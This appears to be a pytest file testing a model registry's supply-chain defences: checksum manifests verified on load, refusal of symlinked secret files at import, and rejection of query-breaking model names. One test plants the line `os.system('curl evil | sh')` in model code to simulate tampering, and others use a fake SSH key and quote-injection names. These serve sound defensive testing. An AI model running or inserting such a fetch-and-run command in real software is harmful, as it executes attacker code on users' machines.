"""The model supply chain: checksums recorded at registration and checked on every load,
`registry verify`, symlinks refused at import, model names that cannot break queries."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlparse

import pytest

from tests.helpers import tiny_hf_bert
from workflows import tracking as t
from workflows.cli import main as cli
from workflows.integrity import MANIFEST_FILE, build_manifest, check_files
from workflows.ops import hf_import
from workflows.ops import registry as r


@pytest.fixture()
def registered(tmp_path, minilm_dir, tracking_uri) -> Path:
    """A tiny BERT imported as `tiny/1`; returns where the store keeps its files."""
    hf_import.import_hf(tiny_hf_bert(tmp_path / "tiny", minilm_dir), "tiny", tracking_uri)
    return Path(urlparse(r.show_model("tiny/1", tracking_uri)["model_artifacts"]).path)


def test_every_file_of_a_version_is_in_its_manifest_and_verifies(registered, tracking_uri,
                                                                 capsys):
    manifest = (registered / MANIFEST_FILE).read_text()
    listed = {line.split("  ", 1)[1] for line in manifest.splitlines()}
    # The code MLflow runs on load, the model description and the weights are all covered.
    assert {"MLmodel", "pyfunc.py", "artifacts/model/model.safetensors",
            "artifacts/model/config.json", "artifacts/model/vocab.txt"} <= listed
    assert cli(["registry", "verify", "tiny@latest", "--tracking-uri", tracking_uri]) == 0
    out = capsys.readouterr().out
    assert f"OK         {MANIFEST_FILE}" in out and "OK         pyfunc.py" in out
    assert "all" in out and "match what was registered" in out
    assert "manifest_sha256" in r.render_model(r.show_model("tiny/1", tracking_uri))


def test_changed_weights_are_refused_on_load_and_named_by_verify(registered, tracking_uri,
                                                                 capsys):
    weights = registered / "artifacts" / "model" / "model.safetensors"
    data = bytearray(weights.read_bytes())
    data[-1] ^= 1  # one bit of one weight
    weights.write_bytes(bytes(data))
    with pytest.raises(t.IntegrityError, match=r"artifacts/model/model.safetensors \(MISMATCH\)"):
        t.resolve_model("models:/tiny/1", tracking_uri=tracking_uri)
    assert cli(["registry", "verify", "tiny/1", "--tracking-uri", tracking_uri]) == 2
    out = capsys.readouterr().out
    assert "MISMATCH   artifacts/model/model.safetensors" in out
    assert "OK         pyfunc.py" in out and "do not load it" in out


def test_changed_code_with_a_rewritten_manifest_is_still_caught(registered, tracking_uri,
                                                                capsys):
    """Whoever can write the artifact store can rewrite the manifest too; the version tag
    (in the registry's database) holds the manifest's own hash."""
    (registered / "pyfunc.py").write_text("import os; os.system('curl evil | sh')\n")
    (registered / "extra.py").write_text("print('also here')\n")
    (registered / MANIFEST_FILE).write_text(build_manifest(registered))
    with pytest.raises(t.IntegrityError, match=MANIFEST_FILE):
        t.resolve_model("models:/tiny@latest", tracking_uri=tracking_uri)
    assert cli(["registry", "verify", "tiny", "--tracking-uri", tracking_uri]) == 2
    assert f"MISMATCH   {MANIFEST_FILE}" in capsys.readouterr().out


def test_added_and_missing_files_are_reported(tmp_path):
    (tmp_path / "a").write_text("a")
    (tmp_path / "b").write_text("b")
    manifest = build_manifest(tmp_path)
    (tmp_path / "b").unlink()
    (tmp_path / "c").write_text("c")
    assert [(c.path, c.status) for c in check_files(tmp_path, manifest)] == [
        ("a", "OK"), ("b", "MISSING"), ("c", "UNEXPECTED")]


def test_a_version_registered_without_a_manifest_is_not_loaded(tmp_path, minilm_dir,
                                                               tracking_uri):
    import mlflow

    folder = tiny_hf_bert(tmp_path / "tiny", minilm_dir)
    exp = t.ensure_experiment("bertflow", tracking_uri)
    mlflow.set_tracking_uri(tracking_uri)
    with mlflow.start_run(experiment_id=exp) as run:
        pass
    uri = t.log_bert_model(folder, run_id=run.info.run_id, tracking_uri=tracking_uri)
    mlflow.set_registry_uri(tracking_uri)
    mlflow.register_model(uri, "foreign")  # registered by some other tool
    with pytest.raises(t.IntegrityError, match="no checksum manifest"):
        t.resolve_model("models:/foreign/1", tracking_uri=tracking_uri)


def test_import_hf_refuses_a_symlink_to_a_local_secret(tmp_path, minilm_dir, tracking_uri):
    folder = tiny_hf_bert(tmp_path / "received", minilm_dir)
    secret = tmp_path / "id_rsa"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (folder / "tokenizer.json").symlink_to(secret)
    with pytest.raises(hf_import.HFImportError, match=r"tokenizer.json is a symbolic link"):
        hf_import.import_hf(folder, "received", tracking_uri)
    assert r.list_models(tracking_uri) == []


def test_model_names_that_break_queries_are_refused(tmp_path, minilm_dir, tracking_uri):
    from bert_core.config_io import ConfigError
    from workflows.config import TrackingSettings

    folder = tiny_hf_bert(tmp_path / "tiny", minilm_dir)
    for bad in ("it's", 'a"b', "a/b", "a@b", "has space", ""):
        with pytest.raises(t.TrackingError, match="model name"):
            hf_import.import_hf(folder, bad, tracking_uri)
    with pytest.raises(ConfigError, match="register_as"):
        TrackingSettings(register_as="bert's")


def test_a_name_with_an_apostrophe_made_elsewhere_does_not_break_listing(tracking_uri,
                                                                          capsys):
    c = t.client(tracking_uri)
    for name in ("it's", "plain"):
        c.create_registered_model(name)
        c.create_model_version(name, "file:///nowhere", tags={t.TAG_TASK: "base"})
    assert [row["name"] for row in r.list_models(tracking_uri)] == ["it's", "plain"]
    assert cli(["registry", "list", "--tracking-uri", tracking_uri]) == 0
    assert "it's" in capsys.readouterr().out
    assert t.get_model_version("models:/it's", tracking_uri).name == "it's"
